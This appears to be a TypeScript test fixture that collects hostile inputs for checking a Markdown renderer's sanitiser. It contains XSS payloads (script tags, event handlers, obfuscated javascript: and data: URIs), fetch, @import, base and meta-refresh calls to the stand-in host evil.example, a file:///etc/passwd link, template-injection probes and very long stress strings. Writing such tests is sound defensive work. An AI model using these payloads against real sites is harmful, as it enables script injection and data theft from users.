// Texts that try to be something else than text. Whatever of them ran would set `pwned`, ask another origin, or leave an element named `canary-x`.

const run = `(window.pwned=1,fetch('https://evil.example/'))`;

/** A little of everything, in one line of a few hundred characters. */
export const attack = `"'\`></script></style></textarea></title><canary-x></canary-x><script>${run}</script><img src=x onerror="${run}"><svg/onload=${run}><!--]]>\u202egpj\u2066\u200b\u0000\u001b\ud800\\ {{7*7}} \${7*7} %2e%2e/ javascript:${run} #1 @canary`;

/** No place to break it. */
export const endless = `W${'W'.repeat(99_999)}`;

/** Stands further right than any page, where nothing holds it. */
export const wide = 'wide_'.repeat(400);

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'java&Tab;script:',
  '%6aavascript:',
  'vbscript:',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=window.pwned=1>',
  'file:///etc/passwd',
  'blob:https://evil.example/',
  '//evil.example/',
  '/\\evil.example/',
  '\u0001javascript:',
];

const links = schemes.flatMap((scheme, at) => [
  `[inline ${at}](${scheme}window.pwned=1)`,
  `[angled ${at}](<${scheme}window.pwned=1> "title\\" onmouseover=\\"${run}")`,
  `![picture ${at}](${scheme}window.pwned=1 "x\\" onerror=\\"${run}")`,
  `<${scheme}window.pwned=1>`,
  `[referred ${at}][r${at}] [r${at}][]`,
  `\n[r${at}]: ${scheme}window.pwned=1 '"onclick=${run}'\n`,
]);

const blocks = [
  `<div onclick="${run}" style="position:fixed;inset:0"><canary-x>block</canary-x></div>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>" src="javascript:parent.pwned=1"></iframe>`,
  `<form action="javascript:${run}"><button id="app" name="boot" autofocus onfocus="${run}">x</button></form>`,
  `<style>@import 'https://evil.example/x.css'; body{display:none}</style>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<![CDATA[<canary-x>]]> <?php echo 1 ?> <!DOCTYPE x> <!-- --!> <canary-x> -->`,
  `![picture](https://evil.example/p.png "x\\" onerror=\\"${run}") [![in a link](https://evil.example/q.svg)](https://evil.example/)`,
  `<https://evil.example/"onmouseover="${run}> https://evil.example/'onmouseover='${run} www.evil.example <a@evil.example>`,
  `\`\`\`"><canary-x onclick=${run}>\n</code></pre><canary-x>code\n${wide}\n\`\`\``,
  `${'*'.repeat(3000)}emphasis${'_'.repeat(3000)}`,
  `${'**_'.repeat(500)}nested${'_**'.repeat(500)}`,
  `${'['.repeat(2000)}${']('.repeat(500)}`,
  `${'> '.repeat(10)}deep\n\n${'- '.repeat(10)}list`,
  `|${' a |'.repeat(200)}\n|${'-|'.repeat(200)}\n${`|${` ${'cell_'.repeat(3)} |`.repeat(200)}\n`.repeat(5)}`,
  `# heading ${wide}\n###### six\n# one again\n\n- [ ] <canary-x>\n- [x] done\n\n999999999. far\n\n***\n${wide}`,
];

/** What Markdown could make links of, within the length that is laid out. */
export const markdown = links.join('\n\n');

/** What it could make anything else of, each a text of its own. */
export const markdownBlocks: readonly string[] = blocks;
